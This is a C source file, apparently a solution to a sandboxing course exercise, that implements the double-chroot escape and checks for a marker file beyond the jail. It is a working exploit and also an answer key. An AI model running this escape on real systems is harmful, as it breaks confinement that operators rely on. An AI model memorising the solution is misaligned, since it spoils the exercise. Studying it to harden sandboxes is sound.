/* Escape 1: the double chroot.  chroot() moves the process's root but not
 * its working directory, and ".." stops only at the process's root.  A
 * process that may call chroot() (CAP_SYS_CHROOT) therefore chroots into
 * a subdirectory, leaving its working directory above the new root;
 * from there ".." climbs freely to the real root, and chroot(".") makes
 * that the root again. */
#define _GNU_SOURCE
#include <errno.h>
#include <string.h>
#include <stdlib.h>
#include <unistd.h>

#include "probe.h"

static int escape(const char *marker)
{
	/* TODO(part B): make a directory (mkdtemp(3) /tmp/escape.XXXXXX),
	 * chroot(2) into it without chdir into it, chdir("..") enough times
	 * (say 256) to reach the real root, chroot(".") and try_marker(marker).
	 * Report each failure with contained("chroot: %s", strerror(errno))
	 * and the like.  Tested by naive-chroot, hardened-chroot,
	 * namespace-chroot. */
	/* BEGIN SOLUTION */ /* STUB: return contained("part B: not written"); */
	char dir[] = "/tmp/escape.XXXXXX";
	if (!mkdtemp(dir))
		return contained("mkdtemp %s: %s", dir, strerror(errno));
	if (chroot(dir) < 0)
		return contained("chroot: %s", strerror(errno));
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			return contained("chdir ..: %s", strerror(errno));
	if (chroot(".") < 0)
		return contained("chroot .: %s", strerror(errno));
	if (try_marker(marker))
		return 0;
	return contained("%s: %s", marker, strerror(errno));
	/* END SOLUTION */
}

int main(int argc, char **argv)
{
	return escape(probe_marker(argc, argv));
}
